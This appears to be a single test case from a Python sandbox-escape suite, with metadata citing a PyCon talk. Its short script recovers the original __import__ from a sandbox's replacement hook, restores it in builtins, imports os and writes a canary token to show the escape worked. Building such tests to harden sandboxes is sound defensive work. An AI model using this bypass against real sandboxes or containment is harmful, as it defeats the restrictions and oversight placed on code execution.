# id: builtins-restore-import
# category: language
# description: builtins are writable: read the real importer out of the hook's globals and put it back in builtins
# source: PyCon 2014 talk (McKellar), why builtins must be read-only: "if I can play with built-ins then an attacker can too"
# detect: token (the token lands in OUT)
# talk: L3
b = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__
hook = b['__import__']
real = hook
for value in list(getattr(hook, '__globals__', {}).values()):
    if type(value) is type(len) and value.__name__ == '__import__':
        real = value
b['__import__'] = real
import os

fd = os.open(OUT, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
os.write(fd, TOKEN.encode())
os.close(fd)
